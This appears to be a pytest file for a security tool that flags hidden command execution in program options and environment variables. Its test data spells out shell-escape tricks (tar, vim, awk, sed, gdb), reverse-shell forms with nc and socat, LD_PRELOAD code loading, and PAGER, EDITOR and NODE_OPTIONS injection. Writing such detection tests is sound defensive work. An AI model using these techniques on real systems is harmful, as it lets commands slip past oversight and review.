"""Commands in the options, scripts and variables of ordinary programs."""

from __future__ import annotations

import pytest

from agentguard.interpret.invocation import Effect, Invocation
from agentguard.interpret.values import Value, literal
from agentguard.operations import CodeExecution, FileDelete, FileOverwrite, Opaque
from agentguard.programs.environment import environment
from tests.programs.effects import MadeWorld, commands, effects


@pytest.mark.parametrize(
    ("words", "inner"),
    [
        (["tar", "cf", "x.tar", "--checkpoint=1", "--checkpoint-action=exec=rm x", "."], "rm x"),
        (["split", "--filter=rm x", "f"], "rm x"),
        (["sort", "--compress-program", "rm x", "f"], "rm x"),
        (["zip", "x.zip", "f", "-T", "-TT", "rm x"], "rm x"),
        (["man", "-P", "rm x", "ls"], "rm x"),
        (["tcpdump", "-z", "rm", "-i", "lo"], "rm file"),
        (["gcc", "-wrapper", "rm,x", "a.c"], "rm x"),
        (["cmake", "-E", "remove_directory", "x"], "rm -rf x"),
        (["socat", "-", "EXEC:rm x"], "rm x"),
        (["xterm", "-e", "rm", "x"], "rm x"),
        (["vim", "-c", ":!rm x"], "rm x"),
        (["vim", "+!rm x", "f"], "rm x"),
        (["nvim", "--headless", "-c", "silent !rm x", "-c", "q"], "rm x"),
        (["vim", "-c", "call system('rm x')"], "rm x"),
        (["ex", "-sc", "%!rm x", "f"], "rm x"),
        (["emacs", "--batch", "--eval", '(shell-command "rm x")'], "rm x"),
        (["less", "+!rm x", "f"], "rm x"),
        (["gdb", "-batch", "-ex", "shell rm x"], "rm x"),
        (["gdb", "--args", "rm", "x"], "rm x"),
        (["lldb", "-o", "platform shell rm x"], "rm x"),
        (["awk", 'BEGIN { system("rm x") }'], "rm x"),
        (["awk", '{ print $1 | "rm x" }', "f"], "rm x"),
        (["gawk", 'BEGIN { "rm x" | getline y }'], "rm x"),
        (["awk", "-v", "c=rm x", "BEGIN { system(c) }"], "rm x"),
        (["awk", 'BEGIN { c = "rm"; system(c " x") }'], "rm x"),
        (["sed", "1e rm x", "f"], "rm x"),
        (["sed", "-n", "1{e rm x\n}", "f"], "rm x"),
    ],
)
def test_commands(words: list[str], inner: str) -> None:
    assert commands(effects(*words, files={"f": ""})) == [inner]


def test_ed_reads_its_commands() -> None:
    assert commands(effects("ed", "-s", "f", stdin="!rm x\nq\n")) == ["rm x"]


def test_sed_runs_what_it_substitutes() -> None:
    assert commands(effects("sed", "s/a/rm x/e", stdin="a")) == ["rm x"]
    assert CodeExecution("input", "sed") in effects("sed", "s/^/rm /e", "f")


@pytest.mark.parametrize(
    ("words", "path"),
    [
        (["awk", '{ print > "out" }', "f"], "/home/dev/app/out"),
        (["sed", "s/a/b/w out", "f"], "/home/dev/app/out"),
        (["sed", "-n", "/a/w out", "f"], "/home/dev/app/out"),
        (["vim", "-c", "w! /etc/x", "f"], "/etc/x"),
    ],
)
def test_written_files(words: list[str], path: str) -> None:
    assert FileOverwrite(literal(path)) in effects(*words, files={"f": ""})


def test_editors_delete() -> None:
    assert FileDelete(literal("/home/dev/app/x"), True) in effects("vim", "-c", "call delete('x', 'rf')")
    assert FileDelete(literal("/home/dev/x"), True) in effects(
        "emacs", "--batch", "--eval", '(delete-directory "~/x" t)'
    )


@pytest.mark.parametrize(
    "words",
    [
        ["awk", "/rm -rf/ { print $1 }", "f"],
        ["awk", '{ if ($1 > 5) print "rm -rf /" }', "f"],
        ["awk", "-F:", '{ printf "%s|%s\\n", $1, $2 }', "f"],
        ["sed", "-n", "/rm -rf/p", "f"],
        ["sed", "s/e rm x/y/g", "f"],
        ["sed", "-e", "s|/etc|/usr|", "f"],
        ["vim", "f"],
        ["vim", "-c", "set nu", "+10", "f"],
        ["less", "+F", "f"],
        ["tar", "czf", "x.tgz", "."],
        ["cmake", "-S", ".", "-B", "build"],
        ["gdb", "-batch", "-ex", "bt", "prog"],
    ],
)
def test_quiet(words: list[str]) -> None:
    found = effects(*words, files={"f": ""})
    assert commands(found) == []
    assert not [e for e in found if isinstance(e, CodeExecution | Opaque)]


def test_a_shell_for_the_other_side() -> None:
    for words in (["nc", "-e", "/bin/sh", "h", "1"], ["socat", "TCP:h:1", "EXEC:/bin/bash"]):
        assert CodeExecution("network", effects(*words)[0].interpreter) in effects(*words)  # type: ignore[union-attr]


# ------------------------------------------------------------------------------------- variables


def changed(words: str, files: dict[str, str] | None = None, **env: str) -> list[Effect]:
    invocation = Invocation(
        tuple(map(literal, words.split())),
        (0, 1),
        (),
        {name: literal(value) for name, value in env.items()},
        literal("/home/dev/app"),
        created=frozenset({"/home/dev/app/fresh"}),
        written={path: Value((text,)) for path, text in (files or {}).items()},
    )
    return list(environment(invocation, MadeWorld()))


@pytest.mark.parametrize(
    ("words", "env", "inner"),
    [
        ("git log", {"PAGER": "rm x"}, "rm x"),
        ("man ls", {"MANPAGER": "sh -c 'rm x'"}, "sh -c 'rm x'"),
        ("git commit", {"EDITOR": "rm x;"}, "rm x;"),
        ("less f", {"LESSOPEN": "|rm x %s"}, "rm x file"),
        ("bash -c ls", {"PROMPT_COMMAND": "rm x"}, "rm x"),
        ("bash -xc ls", {"PS4": "$(rm x)"}, ': "$(rm x)"'),
        ("bash -c f", {"BASH_FUNC_f%%": "() { rm x; }"}, "{ rm x; }"),
        ("terraform destroy", {"TF_CLI_ARGS": "-auto-approve"}, "terraform destroy -auto-approve"),
        ("terraform destroy", {"TF_CLI_ARGS_destroy": "-auto-approve"}, "terraform destroy -auto-approve"),
        ("tar cf x .", {"TAR_OPTIONS": "--to-command=rm"}, "tar cf x . --to-command=rm"),
        ("make", {"MAKEFLAGS": "--eval=x"}, "make --eval=x"),
        ("make", {"CC": "rm x;"}, "rm x;"),
        ("java -jar x", {"JAVA_TOOL_OPTIONS": "-XX:OnError=rm"}, "rm"),
        (
            "node x",
            {"NODE_OPTIONS": "--import data:text/javascript,require(%27child_process%27).execSync(%27rm%20x%27)"},
            "rm x",
        ),
    ],
)
def test_variables_that_run_something(words: str, env: dict[str, str], inner: str) -> None:
    assert commands(changed(words, **env)) == [inner]


def test_files_that_variables_name() -> None:
    files = {"/home/dev/app/fresh/ls": "rm x", "/home/dev/app/rc": "rm y"}
    assert commands(changed("ls -l", files, PATH="fresh:/usr/bin")) == ["/home/dev/app/fresh/ls -l"]
    assert commands(changed("bash -c ls", files, BASH_ENV="rc")) == ["rm y"]


@pytest.mark.parametrize(
    ("words", "env"),
    [
        ("ls", {"LD_PRELOAD": "./x.so"}),
        ("ls", {"LD_AUDIT": "/tmp/x.so"}),
        ("ls", {"LD_LIBRARY_PATH": "/tmp/lib"}),
        ("ls", {"PATH": "/tmp/bin:/usr/bin"}),
        ("bash -c ls", {"BASH_ENV": "missing.sh"}),
        ("node x", {"NODE_OPTIONS": "-r /tmp/x.js"}),
        ("java x", {"_JAVA_OPTIONS": "-javaagent:/tmp/x.jar"}),
    ],
)
def test_variables_that_load_code(words: str, env: dict[str, str]) -> None:
    (found,) = changed(words, **env)
    assert found == CodeExecution("environment", next(iter(env)))


@pytest.mark.parametrize(
    ("words", "env"),
    [
        ("git log", {"PAGER": "less -R"}),
        ("git log", {"PAGER": "cat"}),
        ("git commit", {"EDITOR": "code --wait"}),
        ("git commit", {"GIT_EDITOR": "true"}),
        ("npm test", {"NODE_OPTIONS": "--max-old-space-size=4096"}),
        ("node x", {"NODE_OPTIONS": "--require dotenv/config"}),
        ("cargo build", {"PATH": "/home/dev/.cargo/bin:/usr/bin", "RUSTC_WRAPPER": "sccache"}),
        ("tsc", {"PATH": "/home/dev/app/node_modules/.bin:/usr/bin"}),
        ("ls", {"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2"}),
        ("ls", {"LD_PRELOAD": "libasan.so"}),
        ("make", {"CC": "clang-15", "CXX": "ccache g++"}),
        ("sh x.sh", {"ENV": "production"}),
        ("bash -c ls", {"PS1": "$ "}),
        ("python x", {"PYTHONPATH": "src"}),
        ("java x", {"JAVA_TOOL_OPTIONS": "-Xmx2g"}),
    ],
)
def test_ordinary_variables(words: str, env: dict[str, str]) -> None:
    assert changed(words, **env) == []
